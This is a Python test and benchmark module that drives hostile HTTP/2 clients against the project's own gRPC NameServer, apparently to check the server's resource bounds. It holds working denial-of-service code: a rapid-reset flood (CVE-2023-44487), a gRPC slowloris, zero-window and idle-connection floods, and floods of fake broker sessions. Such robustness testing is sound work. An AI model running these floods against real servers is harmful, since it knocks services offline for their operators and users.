"""Hostile HTTP/2 clients of the gRPC door, written with the ``h2`` library (what grpcio's own client
cannot be made to do): a connection that never opens its flow-control window, and a rapid-reset
flood (HEADERS followed at once by RST_STREAM, CVE-2023-44487); and the gRPC attacks of issue 30
built with them, as scenario 12 of ``make bench`` runs them (each a module-level function of the
server's address and its sizes, run in an attacker process of its own).

Used by ``tests/test_grpc_bounds.py`` (scaled down) and :mod:`bench.remoting_hostile` (scenario 12)
against real NameServer processes.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
import time
from collections import Counter
from collections.abc import Iterable, Iterator, Sequence

import grpc
import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings

from bench.harness import run_threads
from namesrv.v1 import name_server_service_pb2 as ns_pb2
from namesrv.v1 import name_server_service_pb2_grpc as ns_grpc
from namesrv_grpc.core.model import DataVersion, TopicConfig
from namesrv_grpc.wire.grpc_register_body import encode_body

GRPC_CONTENT_TYPE = "application/grpc"


def grpc_message(payload: bytes) -> bytes:
    """One gRPC length-prefixed message (not compressed)."""
    return b"\x00" + struct.pack(">I", len(payload)) + payload


IP_BIND_ADDRESS_NO_PORT = getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24)
"""Linux's socket option that leaves a bound socket's port to ``connect()`` (``<linux/in.h>``)."""


def connect_from(source: str, host: str, port: int, timeout: float) -> socket.socket:
    """A TCP connection to ``host:port`` from the local address ``source`` (``127.0.0.2``: another
    client address on loopback). The port is chosen at ``connect()`` (``IP_BIND_ADDRESS_NO_PORT``),
    for the whole address pair: chosen at ``bind()``, it must be free of every socket of ``source``,
    and a run that opened 12,000 connections from it left them in TIME_WAIT for the next run's
    binds (row 12w's attacker took 65 s instead of 12.5 s to connect). Raises OSError."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        sock.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        sock.settimeout(timeout)
        sock.bind((source, 0))
        sock.connect((host, port))
    except OSError:
        sock.close()
        raise
    return sock


class H2Client:
    """One HTTP/2 connection speaking just enough gRPC to start calls.

    ``window``: the SETTINGS_INITIAL_WINDOW_SIZE it announces (0 = the server may send no DATA on
    any stream); unless it ``reads``, it never sends WINDOW_UPDATE. :meth:`pump` reads what the server sent (answering
    its SETTINGS and PINGs, as any HTTP/2 peer must) without opening a window.
    """

    def __init__(
        self,
        address: str,
        *,
        window: int | None = 0,
        source: str | None = None,
        reads: bool = False,
        settle: float = 0.5,
    ) -> None:
        """``source``: the local IP address to connect from (``127.0.0.2``: another client address on
        loopback, for bounds counted per client address); ``reads``: a client that reads, opening
        the window again for what it received (WINDOW_UPDATE), one pump at a time; ``settle``:
        seconds to read the server's first frames for (0 for a flood of connections)."""
        self.reads = reads
        host, port = address.rsplit(":", 1)
        self.authority = address
        self.sock = (
            connect_from(source, host, int(port), timeout=10)
            if source
            else socket.create_connection((host, int(port)), timeout=10)
        )
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.conn.initiate_connection()
        if window is not None:
            self.conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
        self.sock.sendall(self.conn.data_to_send())
        self.events: list[h2.events.Event] = []
        self.closed = False
        self.error: Exception | None = None
        """The protocol error that made this client give up (``closed``), if any."""
        self.pump(settle)

    def headers(self, path: str) -> list[tuple[str, str]]:
        return [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", self.authority),
            ("content-type", GRPC_CONTENT_TYPE),
            ("te", "trailers"),
        ]

    def stream_room(self, wait: float = 0.0) -> bool:
        """Whether one more stream may be opened under the server's ``SETTINGS_MAX_CONCURRENT_STREAMS``
        (``grpcMaxConcurrentStreams``), reading for up to ``wait`` s while it is at that bound (the
        server's answers and refusals end streams). Before the server's SETTINGS are read, any."""
        deadline = time.monotonic() + wait
        while self.conn.open_outbound_streams >= self.conn.remote_settings.max_concurrent_streams:
            if self.closed or time.monotonic() >= deadline:
                return False
            self.pump(0.05)
        return not self.closed

    def start_calls(self, path: str, request: bytes, count: int, wait: float = 0.0) -> list[int]:
        """Start ``count`` unary calls of ``path`` with ``request`` (serialized), as many as the
        server's stream bound lets in (waiting up to ``wait`` s for each when at the bound); returns
        the stream ids of those started. Reads what the server sent between calls, so its SETTINGS
        and PINGs are answered."""
        ids = []
        for index in range(count):
            if not self.stream_room(wait):
                break
            stream_id = self.conn.get_next_available_stream_id()
            self.conn.send_headers(stream_id, self.headers(path))
            self.send_message(stream_id, grpc_message(request), end_stream=True)
            ids.append(stream_id)
            self.flush()
            if index % 50 == 49:
                self.pump(0)
        self.pump(0)
        return ids

    def open_stream(self, path: str, request: bytes | None = None) -> int:
        """Start a streaming call of ``path`` (sending ``request`` as its first message, if any) and
        leave it open; returns its stream id. Past the server's stream bound (:meth:`stream_room`)
        h2 raises ``TooManyStreamsError``."""
        stream_id = self.conn.get_next_available_stream_id()
        self.conn.send_headers(stream_id, self.headers(path))
        if request is not None:
            self.send_message(stream_id, grpc_message(request))
        self.flush()
        return stream_id

    def send_message(self, stream_id: int, data: bytes, end_stream: bool = False, wait: float = 10.0) -> None:
        """Send ``data`` on ``stream_id`` in frames the server's flow-control windows take, reading
        (its WINDOW_UPDATEs) while they are shut, for ``wait`` s at most (then the rest is dropped)."""
        deadline = time.monotonic() + wait
        while True:
            room = min(self.conn.local_flow_control_window(stream_id), self.conn.max_outbound_frame_size)
            if room >= len(data) or (room > 0 and data):
                chunk, data = data[:room], data[room:]
                self.conn.send_data(stream_id, chunk, end_stream=end_stream and not data)
                if not data:
                    return
            if self.closed or time.monotonic() > deadline:
                return
            self.flush()
            self.pump(0.05)

    def ended(self, stream_id: int) -> str | None:
        """The ``grpc-status`` stream ``stream_id`` ended with (``RST`` for a reset without a status),
        or None while it is open."""
        for event in self.events:
            if isinstance(event, (h2.events.TrailersReceived, h2.events.ResponseReceived)) and (
                event.stream_id == stream_id
            ):
                for name, value in event.headers:
                    if name in ("grpc-status", b"grpc-status"):
                        return value.decode() if isinstance(value, bytes) else str(value)
            if isinstance(event, h2.events.StreamReset) and event.stream_id == stream_id:
                return "RST"
        return None

    def rapid_reset(self, path: str, request: bytes, count: int) -> int:
        """``count`` calls each reset right after it was started (HEADERS, DATA, RST_STREAM), sent as
        fast as the socket takes them; stops when the server closes the connection. Returns the
        calls sent."""
        sent = 0
        try:
            for index in range(count):
                stream_id = self.conn.get_next_available_stream_id()
                self.conn.send_headers(stream_id, self.headers(path))
                self.conn.send_data(stream_id, grpc_message(request), end_stream=False)
                self.conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                sent += 1
                if index % 20 == 19:
                    self.flush()
                    self.pump(0)
                    if self.closed:
                        break
            self.flush()
        except (OSError, h2.exceptions.ProtocolError):
            self.closed = True
        return sent

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data:
            try:
                self.sock.sendall(data)
            except OSError:
                self.closed = True

    def pump(self, seconds: float) -> None:
        """Read for ``seconds`` (0: what is there now); marks :attr:`closed` at end of stream."""
        deadline = time.monotonic() + seconds
        while not self.closed:
            self.sock.settimeout(max(0.0, deadline - time.monotonic()) or 0.001)
            try:
                data = self.sock.recv(1 << 20)
            except (TimeoutError, BlockingIOError):
                return
            except OSError:
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            try:
                events = self.conn.receive_data(data)
                self.events.extend(events)
                if self.reads:
                    for event in events:
                        if isinstance(event, h2.events.DataReceived) and event.flow_controlled_length:
                            self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            except h2.exceptions.ProtocolError as exc:
                self.error = exc
                self.closed = True
                return
            self.flush()
            if time.monotonic() >= deadline:
                return

    def wait_closed(self, seconds: float) -> bool:
        """Read until the server closes the connection or ``seconds`` pass; whether it closed."""
        deadline = time.monotonic() + seconds
        while not self.closed and time.monotonic() < deadline:
            self.pump(min(0.5, max(0.0, deadline - time.monotonic())))
        return self.closed

    def statuses(self) -> list[str]:
        """``grpc-status`` values of the calls that ended so far (trailers-only answers included)."""
        found = []
        for event in self.events:
            if isinstance(event, (h2.events.TrailersReceived, h2.events.ResponseReceived)):
                for name, value in event.headers:
                    if name in ("grpc-status", b"grpc-status"):
                        found.append(value.decode() if isinstance(value, bytes) else str(value))
        return found

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


def close_all(clients: Iterable[H2Client]) -> None:
    for client in clients:
        client.close()


# --------------------------------------------------------------------------- issue 30's attacks (scenario 12)

NS = "/namesrv.v1.NameServerService/"


def hold(clients: Sequence[H2Client], seconds: float) -> None:
    """Keep ``clients`` open for ``seconds``, answering the server's SETTINGS and PINGs (as any HTTP/2
    peer must) and opening no window."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for client in clients:
            client.pump(0)
        time.sleep(0.05)


def _status_name(value: str) -> str:
    for code in grpc.StatusCode:
        if str(code.value[0]) == value:
            return code.name
    return value


def statuses_text(clients: Iterable[H2Client]) -> str:
    counts: Counter[str] = Counter(_status_name(s) for client in clients for s in client.statuses())
    return ", ".join(f"{n:,} {name}" for name, n in counts.most_common()) or "no call ended"


def attack_unread_answers(
    address: str, lists: int, lookups: int, lookup_connections: int, topic: str, seconds: float
) -> str:
    """One connection with a receive window of 0 starts ``lists`` GetAllTopicList calls, and
    ``lookup_connections`` more start ``lookups`` PickupTopicRoute calls each; none ever reads."""
    big = H2Client(address, window=0, settle=0)
    started = len(big.start_calls(NS + "GetAllTopicList", b"", lists))
    request = ns_pb2.PickupTopicRouteRequest(topic=topic).SerializeToString()
    small = [H2Client(address, window=0, settle=0) for _ in range(lookup_connections)]
    started_small = sum(len(client.start_calls(NS + "PickupTopicRoute", request, lookups)) for client in small)
    hold([big, *small], seconds)
    seen = (
        f"lists: {started:,} started (grpcMaxConcurrentStreams), {statuses_text([big])}; "
        f"lookups: {started_small:,} started, {statuses_text(small)}"
    )
    close_all([big, *small])
    return seen


def attack_topic_lists(address: str, calls: int, cluster: str, seconds: float) -> str:
    """``calls`` GetUnitTopicList and ``calls`` GetTopicsByCluster in flight on one connection that
    reads its answers (through HTTP/2's default windows), until all are answered or ``seconds``."""
    client = H2Client(address, window=None, reads=True, settle=0)
    started = time.monotonic()
    ids = client.start_calls(NS + "GetUnitTopicList", b"", calls, wait=seconds)
    by_cluster = ns_pb2.GetTopicsByClusterRequest(cluster_name=cluster).SerializeToString()
    ids += client.start_calls(NS + "GetTopicsByCluster", by_cluster, calls, wait=seconds)
    deadline = started + seconds
    while any(client.ended(i) is None for i in ids) and time.monotonic() < deadline and not client.closed:
        client.pump(0.05)
    took = time.monotonic() - started
    seen = f"{statuses_text([client])} of {len(ids)} calls in {took:.1f} s"
    client.close()
    return seen


def attack_unread_watches(address: str, watches: int, per_connection: int, topics: list[str], seconds: float) -> str:
    """``watches`` WatchTopicRoutes streams on the same ``topics``, ``per_connection`` a connection,
    never read (window 0), while broker ``broker-churn`` registers those topics again with other
    queue counts every 100 ms (over gRPC, in a thread). Reports the registrations' latencies."""
    request = ns_pb2.WatchTopicRoutesRequest(topics=topics).SerializeToString()
    clients: list[H2Client] = []
    for start in range(0, watches, per_connection):
        client = H2Client(address, window=0, settle=0)
        client.start_calls(NS + "WatchTopicRoutes", request, min(per_connection, watches - start))
        clients.append(client)
    latencies: list[float] = []
    stop = threading.Event()

    def churn() -> None:
        with grpc.insecure_channel(address) as channel:
            stub = ns_grpc.NameServerServiceStub(channel)
            version = 0
            while not stop.is_set():
                version += 1
                queues = 4 + version % 2 * 4
                body, crc = encode_body(
                    {t: TopicConfig(t, queues, queues) for t in topics}, DataVersion(0, time.time_ns() // 1000, version)
                )
                request = ns_pb2.RegisterBrokerRequest(
                    cluster_name="DefaultCluster", broker_name="broker-churn", broker_id=0,
                    broker_addr="127.0.0.1:10951", body=body, body_crc32c=crc,
                )  # fmt: skip
                started = time.perf_counter()
                with contextlib.suppress(grpc.RpcError):
                    stub.RegisterBroker(request, timeout=30)
                latencies.append((time.perf_counter() - started) * 1000)
                stop.wait(0.1)

    churner = threading.Thread(target=churn, daemon=True)
    churner.start()
    hold(clients, seconds)
    stop.set()
    churner.join(30)
    latencies.sort()
    closed = sum(c.closed for c in clients)
    median = latencies[len(latencies) // 2] if latencies else 0.0
    close_all(clients)
    return (
        f"watches: {statuses_text(clients)}, {closed} of {len(clients)} connections closed; "
        f"{len(latencies)} re-registrations, p50 {median:.0f} ms, max {latencies[-1] if latencies else 0:.0f} ms"
    )


def attack_idle_connections(address: str, count: int, seconds: float) -> str:
    """``count`` HTTP/2 connections that start no call and answer the server's pings, held ``seconds``."""
    clients: list[H2Client] = []
    failed = 0
    for _ in range(count):
        try:
            clients.append(H2Client(address, window=None, settle=0))
        except OSError:
            failed += 1
    hold(clients, seconds)
    open_ = sum(not c.closed for c in clients)
    close_all(clients)
    return f"{len(clients):,} connected ({failed} failed), {open_:,} still open after {seconds:g} s"


def slow_streams(
    address: str, connections: int, streams: int, held: int, source: str | None = None
) -> tuple[list[H2Client], list[tuple[H2Client, int]]]:
    """gRPC slowloris: ``connections`` HTTP/2 connections, each starting up to ``streams``
    PickupTopicRoute calls whose message announces 4 MiB and sends ``held`` bytes of it (as much as
    the server's flow-control windows take; none once the connection's is used up), never ending
    it: :func:`trickle_streams` sends one more byte on each. Returns the connections and the
    (connection, stream id) of the calls started."""
    clients: list[H2Client] = []
    started: list[tuple[H2Client, int]] = []
    for _ in range(connections):
        try:
            client = H2Client(address, window=None, source=source, settle=0.1)
        except OSError:
            break
        clients.append(client)
        for _ in range(streams):
            if not client.stream_room(0.2):
                break
            stream_id = client.conn.get_next_available_stream_id()
            client.conn.send_headers(stream_id, client.headers(NS + "PickupTopicRoute"))
            room = min(client.conn.local_flow_control_window(stream_id), client.conn.max_outbound_frame_size)
            if room >= 5:  # else the call waits with its headers only (the connection's window is used up)
                client.conn.send_data(stream_id, b"\x00" + struct.pack(">I", 4 << 20) + bytes(min(held, room) - 5))
            started.append((client, stream_id))
        client.flush()
        client.pump(0)
    return clients, started


def trickle_streams(started: Sequence[tuple[H2Client, int]]) -> None:
    """One more byte on each stream of :func:`slow_streams` that the server still takes."""
    for client, stream_id in started:
        if client.closed:
            continue
        with contextlib.suppress(h2.exceptions.H2Error, KeyError):
            if client.conn.local_flow_control_window(stream_id) > 0:
                client.conn.send_data(stream_id, b"\x00")
    for client in {id(c): c for c, _ in started}.values():
        client.flush()
        client.pump(0)


def hello(broker_name: str, broker_addr: str, cluster: str = "DefaultCluster") -> ns_pb2.OpenBrokerSessionRequest:
    return ns_pb2.OpenBrokerSessionRequest(
        hello=ns_pb2.SessionHello(cluster_name=cluster, broker_name=broker_name, broker_id=0, broker_addr=broker_addr)
    )


def real_session(address: str, broker_name: str, broker_addr: str) -> str:
    """Register ``broker_name`` over gRPC and open its broker session (grpcio): the first answer's
    kind (``accepted`` when it got in), or the error."""
    body, crc = encode_body({"SessionTopic": TopicConfig("SessionTopic", 4, 4)}, DataVersion(0, 1, 1))
    done = threading.Event()
    with grpc.insecure_channel(address, options=[("grpc.use_local_subchannel_pool", 1)]) as channel:
        stub = ns_grpc.NameServerServiceStub(channel)
        try:
            stub.RegisterBroker(
                ns_pb2.RegisterBrokerRequest(
                    cluster_name="DefaultCluster", broker_name=broker_name, broker_id=0, broker_addr=broker_addr,
                    body=body, body_crc32c=crc, heartbeat_timeout_millis=3_600_000,
                ),
                timeout=10,
            )  # fmt: skip

            def requests() -> Iterator[ns_pb2.OpenBrokerSessionRequest]:
                yield hello(broker_name, broker_addr)
                done.wait(30)

            call = stub.OpenBrokerSession(requests(), timeout=30)
            first = next(iter(call))
            kind = str(first.WhichOneof("kind"))
            done.set()
            call.cancel()
        except grpc.RpcError as error:
            done.set()
            return f"{error.code().name}: {(error.details() or '')[:60]}"
    return kind


def attack_unbound_sessions(
    address: str, connections: int, streams: int, seconds: float, source: str
) -> tuple[str, bool]:
    """``connections`` x ``streams`` OpenBrokerSession streams from ``source`` saying hello for
    brokers that are not registered; meanwhile a real broker (at another address: the per-address
    bound is meant to hold the flood's address only) registers and opens its session (must be
    accepted)."""
    clients: list[H2Client] = []
    for c in range(connections):
        client = H2Client(address, window=None, settle=0, source=source)
        for s in range(streams):
            if not client.stream_room():  # the server's grpcMaxConcurrentStreams
                break
            name = f"broker-ghost-{c}-{s}"
            client.open_stream(NS + "OpenBrokerSession", hello(name, f"127.0.0.9:{10000 + s}").SerializeToString())
            if s % 50 == 49:
                client.pump(0)
        clients.append(client)
    hold(clients, min(0.5, seconds))
    kind = real_session(address, "broker-session", "127.0.0.1:10971")
    hold(clients, seconds)
    seen = f"floods: {statuses_text(clients)}; the real broker's session: {kind}"
    close_all(clients)
    return seen, kind == "accepted"


def attack_rapid_reset(address: str, connections: int, topic: str, seconds: float) -> str:
    """``connections`` threads each sending HEADERS + RST_STREAM pairs as fast as they can for
    ``seconds``, reconnecting when the server closes the connection."""
    request = ns_pb2.PickupTopicRouteRequest(topic=topic).SerializeToString()
    sent = [0] * connections
    closed = [0] * connections
    deadline = time.monotonic() + seconds

    def flood(index: int) -> None:
        while time.monotonic() < deadline:
            try:
                client = H2Client(address, window=None, settle=0)
            except OSError:
                time.sleep(0.1)
                continue
            while not client.closed and time.monotonic() < deadline:
                sent[index] += client.rapid_reset(NS + "PickupTopicRoute", request, 1_000)
            closed[index] += client.closed
            client.close()

    run_threads(flood, connections, seconds + 30)
    return f"{sum(sent):,} resets sent, {sum(closed)} connections closed by the server"
